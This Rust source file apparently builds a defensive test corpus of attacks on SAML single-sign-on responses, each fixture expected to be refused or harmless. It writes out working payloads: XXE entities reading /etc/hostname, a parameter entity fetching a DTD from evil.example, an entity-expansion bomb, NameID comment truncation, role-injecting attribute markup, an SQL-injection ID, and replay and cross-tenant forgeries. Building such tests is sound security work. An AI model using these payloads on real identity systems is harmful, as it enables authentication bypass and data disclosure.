//! Attacks on what is read and on what it is compared with: values, markup, structure, times, parties, replay.

use entrada::practice::Sign;

use super::base::*;
use super::book::Book;
use super::controls::trusting;
use super::keys::Keys;
use super::manifest::Fixture;
use super::manifest::Who;
use super::metadata::OTHER_IDP;
use super::seal::Seal;

pub(crate) fn write(book: &mut Book, keys: &Keys) {
    values(book, keys);
    markup(book, keys);
    structure(book, keys);
    unsigned_envelope(book, keys);
    recipients(book, keys);
    mandatory_parts(book, keys);
    confirmations(book, keys);
    requests(book, keys);
    replay(book, keys);
    providers(book, keys);
}

/// An attack that is refused; its control is the plain sign-on with a signed assertion unless changed.
pub(crate) fn attack(
    rows: &[&str],
    file: &str,
    shows: &str,
    code: &str,
    checks: &[&str],
) -> Fixture {
    Fixture {
        ..with_rows(
            refused(
                accepted(&format!("attacks/{file}.xml"), shows),
                code,
                checks,
            ),
            rows,
        )
    }
}

fn with_rows(fixture: Fixture, rows: &[&str]) -> Fixture {
    Fixture {
        attacks: rows.iter().map(|row| (*row).to_owned()).collect(),
        control: Some("responses/assertion-signed.xml".to_owned()),
        ..fixture
    }
}

/// An attack that comes to nothing: the response is accepted, and is whose it was.
fn harmless(rows: &[&str], file: &str, shows: &str, who: Who) -> Fixture {
    let fixture = accepted(&format!("attacks/{file}.xml"), shows);
    Fixture {
        principal: Some(who),
        ..with_rows(fixture, rows)
    }
}

fn values(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    // The attacker's own account at the identity provider has a name that begins with the victim's.
    let long_name = "admin@contoso.com.evil.example";
    let named = |name: &str| {
        seal.sign(
            &edit(
                &unsigned(),
                &format!(">{VICTIM}</NameID>"),
                &format!(">{name}</NameID>"),
            ),
            ASSERTION,
        )
    };
    let own = named(long_name);
    let cut = edit(
        &own,
        "admin@contoso.com.evil",
        "admin@contoso.com<!-- -->.evil",
    );
    book.add(
        harmless(
            &["A04"],
            "a04-comment-in-name",
            "a comment in the name cuts nothing off",
            Who {
                name_id: long_name.to_owned(),
                ..adele()
            },
        ),
        &cut,
    );
    let mut claims = claims();
    claims[9].1 = vec![long_name.to_owned()];
    let in_claim = with_claims(&claims)
        .signed(Sign::Nothing, &keys.idp.signer())
        .expect("a response can be written");
    book.add(
        harmless(
            &["A04"],
            "a04-comment-in-attribute",
            "a comment in a claim cuts nothing off",
            Who {
                attributes: claims,
                ..adele()
            },
        ),
        edit(
            &seal.sign(&in_claim, ASSERTION),
            "admin@contoso.com.evil",
            "admin@contoso.com<!---->.evil",
        ),
    );
    book.add(
        harmless(
            &["A04"],
            "a04-cdata-in-name",
            "a CDATA section in the name cuts nothing off",
            Who {
                name_id: long_name.to_owned(),
                ..adele()
            },
        ),
        edit(
            &own,
            "admin@contoso.com.evil",
            "admin@contoso.com<![CDATA[.evil]]>",
        ),
    );
    book.add(
        attack(
            &["A04"],
            "a04-element-in-name",
            "an element in the name, signed",
            "assertion-malformed",
            &["assertion"],
        ),
        named("admin@contoso.com<b xmlns=\"urn:b\"/>.evil.example"),
    );
    for (file, markup) in [
        ("a05-instruction-in-name", "<?x?>"),
        ("a05-instruction-in-lines", "<?x\n?>"),
    ] {
        book.add(
            attack(
                &["A05"],
                file,
                "a processing instruction in the name",
                "xml-processing-instruction",
                &["xml"],
            ),
            edit(
                &own,
                "admin@contoso.com.evil",
                &format!("admin@contoso.com{markup}.evil"),
            ),
        );
    }
    let injected =
        "Adele</AttributeValue></Attribute><Attribute Name=\"role\"><AttributeValue>admin";
    let mut hostile = super::base::claims();
    hostile[2].1 = vec![injected.to_owned()];
    let written = with_claims(&hostile)
        .signed(Sign::Assertion, &keys.idp.signer())
        .expect("a response can be signed");
    book.add(
        harmless(
            &["A45"],
            "a45-markup-in-claim",
            "markup in a claim stays text",
            Who {
                attributes: hostile,
                ..adele()
            },
        ),
        written,
    );
}

fn markup(book: &mut Book, keys: &Keys) {
    let signed = Seal::new(&keys.idp).sign(&unsigned(), ASSERTION);
    let doctype = |subset: &str| format!("<!DOCTYPE r [{subset}]>{signed}");
    for (file, shows, content) in [
        (
            "a25-external-entity",
            "an entity that reads a file",
            doctype("<!ENTITY x SYSTEM \"file:///etc/hostname\">").replacen(
                "Adele Vance",
                "&x;",
                1,
            ),
        ),
        (
            "a25-entity-in-id",
            "an entity in the reference",
            doctype(&format!("<!ENTITY x \"{ASSERTION}\">")).replacen(
                &format!("#{ASSERTION}"),
                "#&x;",
                1,
            ),
        ),
        (
            "a25-id-attribute-type",
            "a declaration that makes another attribute the identifier",
            doctype("<!ATTLIST Assertion Version ID #IMPLIED>"),
        ),
        (
            "a25-parameter-entity",
            "a parameter entity",
            doctype("<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;"),
        ),
        (
            "a26-entities-within-entities",
            "entities that grow a thousandfold",
            doctype("<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">")
                .replacen("Adele Vance", "&b;", 1),
        ),
    ] {
        book.add(
            attack(
                &[&file[..3].to_uppercase()],
                file,
                shows,
                "xml-dtd",
                &["xml"],
            ),
            content,
        );
    }
    let extensions = |content: &str| {
        edit(
            &signed,
            "<samlp:Status>",
            &format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>"),
        )
    };
    for (rows, file, shows, code, content) in [
        (
            "A07",
            "a07-two-colons",
            "a name that other parsers rewrite",
            "xml-name",
            extensions("<x::y xmlns:x=\"urn:x\"/>"),
        ),
        (
            "A07",
            "a07-colon-first",
            "an attribute without a prefix before its colon",
            "xml-name",
            extensions("<x xmlns=\"urn:x\" :y=\"z\"/>"),
        ),
        (
            "A08",
            "a08-relative-namespace",
            "a namespace that has no canonical form",
            "xml-relative-namespace",
            edit(&signed, "<Subject>", "<Subject xmlns:x=\"./x\">"),
        ),
        (
            "A06",
            "a06-unclosed-comment",
            "a comment that one parser ends and another does not",
            "xml-not-well-formed",
            edit(&signed, "<Subject>", "<!-- -- ><Subject>"),
        ),
        (
            "A06",
            "a06-mismatched-tags",
            "an end tag that differs by letter case",
            "xml-not-well-formed",
            edit(&signed, "</Subject>", "</subject>"),
        ),
        (
            "A06",
            "a06-notation-in-text",
            "a section end in text",
            "xml-not-well-formed",
            signed.replacen("Adele Vance", "Adele]]>Vance", 1),
        ),
        (
            "A26",
            "a26-deep",
            "40 elements within each other",
            "xml-too-deep",
            extensions(&format!(
                "{}{}",
                "<x xmlns=\"urn:x\">".repeat(40),
                "</x>".repeat(40)
            )),
        ),
        (
            "A47",
            "a47-two-roots",
            "a second response after the first",
            "xml-outside-root",
            format!(
                "{signed}{}",
                signed.replace(VICTIM, ADMIN).replace("ID=\"_", "ID=\"_x")
            ),
        ),
        (
            "A47",
            "a47-text-before-root",
            "text before the root",
            "xml-outside-root",
            format!("x{signed}"),
        ),
        (
            "A47",
            "a47-comment-before-root",
            "a comment before the root",
            "xml-outside-root",
            format!("<!-- x -->{signed}"),
        ),
        (
            "A47",
            "a47-cdata-after-root",
            "a CDATA section after the root",
            "xml-outside-root",
            format!("{signed}<![CDATA[ ]]>"),
        ),
        (
            "A47",
            "a47-zero-after-root",
            "a zero octet after the root",
            "xml-character",
            format!("{signed}\0"),
        ),
    ] {
        book.add(attack(&[rows], file, shows, code, &["xml"]), content);
    }
}

/// Nothing where something is expected, and the unexpected where nothing is.
fn structure(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let signed = seal.sign(&unsigned(), ASSERTION);
    let assertion = span(&signed, "<Assertion ", "</Assertion>").to_owned();
    let status = span(&signed, "<samlp:Status>", "</samlp:Status>").to_owned();
    for (rows, file, shows, code, check, content) in [
        ("A48", "a48-nothing", "an empty message", "xml-not-well-formed", "xml", String::new()),
        ("A48", "a48-empty-response", "a response without anything", "response-malformed", "structure", "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>".to_owned()),
        ("A48", "a48-assertion-alone", "an assertion without a response", "not-a-response", "structure", assertion.clone()),
        ("A48", "a48-without-status", "a response without a status", "response-malformed", "structure", signed.replace(&status, "")),
        ("A48", "a48-empty-status", "a status without a code", "response-malformed", "structure", signed.replace(&status, "<samlp:Status/>")),
        ("A48", "a48-empty-signature", "a signature without anything", "signature-malformed", "signature", signed.replace(span(&signed, "<Signature ", "</Signature>"), "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"/>")),
        ("A48", "a48-empty-assertion", "an assertion without anything", "signature-missing", "signature", signed.replace(&assertion, "<Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>")),
        ("A09", "a09-other-namespace", "an assertion of another namespace", "response-malformed", "structure", in_saml_1(&signed)),
        ("A27", "a27-encrypted-without-signature", "an encrypted assertion proves nothing about who encrypted it", "assertion-encrypted", "structure", signed.replace(&assertion, "<EncryptedAssertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></EncryptedAssertion>")),
    ] {
        book.add(attack(&[rows], file, shows, code, &[check]), content);
    }
    for (file, shows, from, to) in [
        (
            "a21-version",
            "an assertion of version 1.1",
            "Version=\"2.0\" xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer>",
            "Version=\"1.1\" xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer>",
        ),
        (
            "a21-two-subjects",
            "two subjects",
            "<Subject>",
            "<Subject><NameID>admin@contoso.com</NameID></Subject><Subject>",
        ),
        (
            "a21-two-names",
            "two names",
            "<NameID ",
            "<NameID>admin@contoso.com</NameID><NameID ",
        ),
        (
            "a21-unknown-statement",
            "an element that the schema does not have",
            "<AttributeStatement>",
            "<Statement/><AttributeStatement>",
        ),
        (
            "a21-text-between",
            "text between the elements",
            "<Subject>",
            "admin<Subject>",
        ),
        (
            "a21-local-time",
            "a time without a zone",
            "NotBefore=\"2026-11-22T09:55:00.123Z\"",
            "NotBefore=\"2026-11-22T09:55:00.123\"",
        ),
        (
            "a21-issuer-format",
            "an issuer that is an e-mail address",
            "urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer>https",
            "urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">https",
        ),
        (
            "a21-attribute-without-name",
            "an attribute without a name",
            "<Attribute Name=\"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name\">",
            "<Attribute>",
        ),
    ] {
        let draft = match file {
            "a21-version" | "a21-issuer-format" => {
                let usual = unsigned();
                let at = usual.find("<Assertion ").expect("the assertion is there");
                format!("{}{}", &usual[..at], usual[at..].replacen(from, to, 1))
            }
            _ => edit(&unsigned(), from, to),
        };
        book.add(
            attack(&["A21"], file, shows, "assertion-malformed", &["assertion"]),
            seal.sign(&draft, ASSERTION),
        );
    }
}

/// The assertion, soundly signed, in the namespace of SAML 1.
fn in_saml_1(signed: &str) -> String {
    let at = signed.find("<Assertion ").expect("the assertion is there");
    format!(
        "{}{}",
        &signed[..at],
        signed[at..].replacen("SAML:2.0:assertion", "SAML:1.0:assertion", 1)
    )
}

/// What stands around a signed assertion is nobody's word: it can refuse, and cannot help.
fn unsigned_envelope(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let signed = seal.sign(&unsigned(), ASSERTION);
    let foreign = edit(
        &unsigned(),
        &format!("xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer>{IDP}"),
        &format!("xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"><Issuer>{OTHER_IDP}"),
    );
    book.add(
        attack(
            &["A16"],
            "a16-outer-issuer-ours",
            "the envelope names our issuer, the signed assertion another",
            "issuer-mismatch",
            &["issuer"],
        ),
        seal.sign(&foreign, ASSERTION),
    );
    book.add(
        attack(
            &["A16"],
            "a16-outer-issuer-other",
            "the envelope names another issuer than the signed assertion",
            "response-issuer-mismatch",
            &["response-issuer"],
        ),
        signed.replacen(&format!(">{IDP}<"), &format!(">{OTHER_IDP}<"), 1),
    );
    let late = edit(
        &unsigned(),
        &format!("SubjectConfirmationData InResponseTo=\"{REQUEST}"),
        "SubjectConfirmationData InResponseTo=\"id-of-another-browser",
    );
    book.add(
        attack(
            &["A16", "A33"],
            "a16-outer-request-ours",
            "the envelope answers our request, the signed assertion another",
            "in-response-to-mismatch",
            &["in-response-to"],
        ),
        seal.sign(&late, ASSERTION),
    );
    let error = signed.replacen(
        "status:Success\"/>",
        "status:Responder\"/><samlp:StatusMessage>AADSTS50105</samlp:StatusMessage>",
        1,
    );
    book.add(
        attack(
            &["A29"],
            "a29-error-around-assertion",
            "a refusal of the identity provider around a signed assertion",
            "status-not-success",
            &["status"],
        ),
        error,
    );
    let refusal = {
        let usual = unsigned();
        let empty = usual
            .replace(span(&usual, "<Assertion ", "</Assertion>"), "")
            .replacen("status:Success", "status:Responder", 1);
        seal.sign(&empty, RESPONSE)
    };
    book.add(
        attack(
            &["A29"],
            "a29-signed-refusal-reused",
            "a signed refusal with an assertion put into it",
            "signature-digest",
            &["signature"],
        ),
        {
            let usual = unsigned();
            let evil = span(&usual, "<Assertion ", "</Assertion>").replace(VICTIM, ADMIN);
            edit(
                &refusal,
                "</samlp:Response>",
                &format!("{evil}</samlp:Response>"),
            )
        },
    );
    book.add(
        attack(
            &["A29"],
            "a29-signed-refusal",
            "a signed refusal",
            "status-not-success",
            &["status"],
        ),
        &refusal,
    );
}

fn recipients(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let other = "https://other.example.com/acs";
    let usual = unsigned();
    let relayed = usual
        .replace(ACS, other)
        .replace(SP, "https://other.example.com/");
    book.add(
        attack(
            &["A30"],
            "a30-another-app",
            "a response for another app of the same tenant",
            "destination-mismatch",
            &["destination", "recipient", "audience"],
        ),
        seal.sign(&relayed, ASSERTION),
    );
    book.add(
        attack(
            &["A30"],
            "a30-destination-rewritten",
            "the same, with an unsigned envelope written anew",
            "recipient-mismatch",
            &["recipient", "audience"],
        ),
        edit(
            &seal.sign(&relayed, ASSERTION),
            &format!("Destination=\"{other}"),
            &format!("Destination=\"{ACS}"),
        ),
    );
    for (file, shows, code, check, from, to) in [
        ("a30-audience-prefix", "an audience that begins as ours does", "audience-mismatch", "audience", format!("<Audience>{SP}"), format!("<Audience>{SP}/admin")),
        ("a30-audience-case", "an audience that differs by letter case", "audience-mismatch", "audience", "<Audience>https://app".to_owned(), "<Audience>https://APP".to_owned()),
        ("a30-recipient-prefix", "a recipient that begins as ours does", "recipient-mismatch", "recipient", format!("Recipient=\"{ACS}"), format!("Recipient=\"{ACS}.evil.example/")),
        ("a30-two-restrictions", "two restrictions, of which one leaves us out", "audience-mismatch", "audience", "</AudienceRestriction>".to_owned(), "</AudienceRestriction><AudienceRestriction><Audience>https://other.example.com/</Audience></AudienceRestriction>".to_owned()),
    ] {
        book.add(attack(&["A30"], file, shows, code, &[check]), seal.sign(&edit(&usual, &from, &to), ASSERTION));
    }
    book.add(
        Fixture {
            control: Some("responses/response-signed.xml".to_owned()),
            ..attack(
                &["A30"],
                "a30-no-destination",
                "a signed response that does not say where it goes",
                "destination-mismatch",
                &["destination"],
            )
        },
        seal.sign(
            &edit(&usual, &format!(" Destination=\"{ACS}\""), ""),
            RESPONSE,
        ),
    );
}

fn mandatory_parts(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let usual = unsigned();
    let confirmation = span(&usual, "<SubjectConfirmation ", "</SubjectConfirmation>");
    let data = span(&usual, "<SubjectConfirmationData ", "/>");
    let restriction = span(&usual, "<AudienceRestriction>", "</AudienceRestriction>");
    let conditions = span(&usual, "<Conditions ", "</Conditions>");
    let subject = span(&usual, "<Subject>", "</Subject>");
    for (file, shows, code, checks, from, to) in [
        (
            "a31-no-confirmation-deadline",
            "a confirmation for ever",
            "confirmation-expired",
            &["confirmation-deadline"][..],
            " NotOnOrAfter=\"2026-11-22T11:00:00.123Z\" Recipient",
            " Recipient",
        ),
        (
            "a31-no-recipient",
            "a confirmation for anybody",
            "recipient-mismatch",
            &["recipient"],
            &format!(" Recipient=\"{ACS}\""),
            "",
        ),
        (
            "a31-no-audience-restriction",
            "an assertion for anybody",
            "audience-mismatch",
            &["audience"],
            restriction,
            "",
        ),
        (
            "a31-empty-restriction",
            "a restriction without an audience",
            "audience-mismatch",
            &["audience"],
            restriction,
            "<AudienceRestriction/>",
        ),
        (
            "a31-no-conditions",
            "an assertion without conditions",
            "conditions-missing",
            &["conditions"],
            conditions,
            "",
        ),
        (
            "a31-no-confirmation",
            "a subject that nobody confirms",
            "subject-confirmation-missing",
            &["subject-confirmation"],
            confirmation,
            "",
        ),
        (
            "a31-no-confirmation-data",
            "a confirmation without data",
            "recipient-mismatch",
            &["recipient", "confirmation-deadline", "in-response-to"],
            data,
            "",
        ),
        (
            "a31-no-subject",
            "an assertion about nobody",
            "name-id-missing",
            &["subject", "subject-confirmation"],
            subject,
            "",
        ),
        (
            "a31-blank-name",
            "a name of white space",
            "name-id-missing",
            &["subject"],
            &format!(">{VICTIM}</NameID>"),
            "> \n</NameID>",
        ),
    ] {
        book.add(
            attack(&["A31"], file, shows, code, checks),
            seal.sign(&edit(&usual, from, to), ASSERTION),
        );
    }
}

fn confirmations(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let usual = unsigned();
    let bearer = span(&usual, "<SubjectConfirmation ", "</SubjectConfirmation>").to_owned();
    let other_recipient = bearer.replace(ACS, "https://other.example.com/acs");
    let expired = bearer.replace("2026-11-22T11:00:00.123Z", "2026-11-22T09:00:00Z");
    book.add(
        attack(
            &["A32"],
            "a32-halves",
            "two confirmations, each wrong in its own way",
            "recipient-mismatch",
            &["recipient"],
        ),
        seal.sign(
            &edit(&usual, &bearer, &format!("{other_recipient}{expired}")),
            ASSERTION,
        ),
    );
    book.add(
        attack(
            &["A32"],
            "a32-halves-swapped",
            "the same in the other order",
            "confirmation-expired",
            &["confirmation-deadline"],
        ),
        seal.sign(
            &edit(&usual, &bearer, &format!("{expired}{other_recipient}")),
            ASSERTION,
        ),
    );
    for method in ["holder-of-key", "sender-vouches"] {
        book.add(
            attack(
                &["A32"],
                &format!("a32-{method}"),
                "all that a bearer confirmation has, by another method",
                "subject-confirmation-missing",
                &["subject-confirmation"],
            ),
            seal.sign(
                &edit(&usual, "cm:bearer", &format!("cm:{method}")),
                ASSERTION,
            ),
        );
    }
}

fn requests(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let signed = seal.sign(&unsigned(), ASSERTION);
    let both = &["response-in-response-to", "in-response-to"][..];
    book.add(
        Fixture {
            request: Some("id-of-another-browser".to_owned()),
            ..attack(
                &["A33"],
                "a33-request-of-another-browser",
                "the answer to a request that another browser sent",
                "response-in-response-to-mismatch",
                both,
            )
        },
        &signed,
    );
    book.add(
        Fixture {
            request: None,
            ..attack(
                &["A33"],
                "a33-answer-as-unsolicited",
                "the answer to some request, where none is pending",
                "response-in-response-to-mismatch",
                both,
            )
        },
        &signed,
    );
    book.add(
        Fixture {
            request: None,
            ..attack(
                &["A33"],
                "a33-request-removed",
                "the same, with InResponseTo taken out of the unsigned envelope",
                "in-response-to-mismatch",
                &["in-response-to"],
            )
        },
        signed.replacen(&format!(" InResponseTo=\"{REQUEST}\""), "", 1),
    );
    let unsolicited = seal.sign(
        &unsigned().replace(&format!(" InResponseTo=\"{REQUEST}\""), ""),
        ASSERTION,
    );
    book.add(
        attack(
            &["A33"],
            "a33-unsolicited-as-answer",
            "an unsolicited response in place of the answer",
            "response-in-response-to-mismatch",
            both,
        ),
        &unsolicited,
    );
    book.add(
        attack(
            &["A33"],
            "a33-unsolicited-dressed-up",
            "the same, with InResponseTo put into the unsigned envelope",
            "in-response-to-mismatch",
            &["in-response-to"],
        ),
        edit(
            &unsolicited,
            " Destination=",
            &format!(" InResponseTo=\"{REQUEST}\" Destination="),
        ),
    );
}

fn replay(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    let signed = seal.sign(&unsigned(), ASSERTION);
    let again = |fixture: Fixture| Fixture {
        posted_before: 1,
        ..fixture
    };
    book.add(
        again(attack(
            &["A34"],
            "a34-posted-again",
            "the same response once more",
            "replayed",
            &[],
        )),
        &signed,
    );
    book.add(
        again(attack(
            &["A34"],
            "a34-one-time-use",
            "the same, with a condition that asks for one use",
            "replayed",
            &[],
        )),
        seal.sign(
            &edit(&unsigned(), "</Conditions>", "<OneTimeUse/></Conditions>"),
            ASSERTION,
        ),
    );
    let hostile = "_x' OR '1'='1";
    let draft = unsigned().replace(ASSERTION, hostile);
    let who = Who {
        session_index: Some(hostile.to_owned()),
        ..adele()
    };
    book.add(
        harmless(
            &["A35"],
            "a35-hostile-id",
            "an ID that is SQL: hashed before it is stored",
            who,
        ),
        seal.sign(&draft, hostile),
    );
    book.add(
        again(attack(
            &["A35"],
            "a35-hostile-id-again",
            "the same once more",
            "replayed",
            &[],
        )),
        seal.sign(&draft, hostile),
    );
    book.add(
        Fixture {
            at: "2026-11-22T11:03:00.123Z".parse().expect("a time"),
            ..attack(
                &["A34"],
                "a34-after-the-deadline",
                "at the very moment when the deadline and the skew have passed",
                "confirmation-expired",
                &["confirmation-deadline", "deadline"],
            )
        },
        &signed,
    );
}

fn providers(book: &mut Book, keys: &Keys) {
    let other = Seal::new(&keys.other);
    let theirs = unsigned().replace(IDP, OTHER_IDP);
    book.add(
        attack(
            &["A38"],
            "a38-another-tenant",
            "a response of another tenant, soundly signed with that tenant's key",
            "signature-invalid",
            &["signature"],
        ),
        other.sign(&theirs, ASSERTION),
    );
    book.add(
        attack(
            &["A38"],
            "a38-vouching-for-ours",
            "another tenant's key under our tenant's name",
            "signature-invalid",
            &["signature"],
        ),
        other.sign(&unsigned(), ASSERTION),
    );
    book.add(
        trusting(
            attack(
                &["A38"],
                "a38-ours-at-another-connection",
                "our tenant's name at the connection of the other tenant, whose key signed",
                "response-issuer-mismatch",
                &["response-issuer", "issuer", "tenant"],
            ),
            "metadata/entra-other-tenant.xml",
        ),
        other.sign(&unsigned(), ASSERTION),
    );
    book.add(
        attack(
            &["A38"],
            "a38-guest-of-another-tenant",
            "our tenant's issuer, and a person of another tenant",
            "tenant-mismatch",
            &["tenant"],
        ),
        Seal::new(&keys.idp).sign(
            &edit(
                &unsigned(),
                &format!("<AttributeValue>{TENANT}<"),
                "<AttributeValue>ffffffff-4d5e-4f70-8192-a3b4c5d6e7f8<",
            ),
            ASSERTION,
        ),
    );
    let two = format!("<AttributeValue>{TENANT}</AttributeValue>");
    book.add(
        attack(
            &["A38"],
            "a38-two-tenants",
            "two tenants in one claim",
            "tenant-mismatch",
            &["tenant"],
        ),
        Seal::new(&keys.idp).sign(
            &edit(
                &unsigned(),
                &two,
                &format!(
                    "{two}<AttributeValue>ffffffff-4d5e-4f70-8192-a3b4c5d6e7f8</AttributeValue>"
                ),
            ),
            ASSERTION,
        ),
    );
}
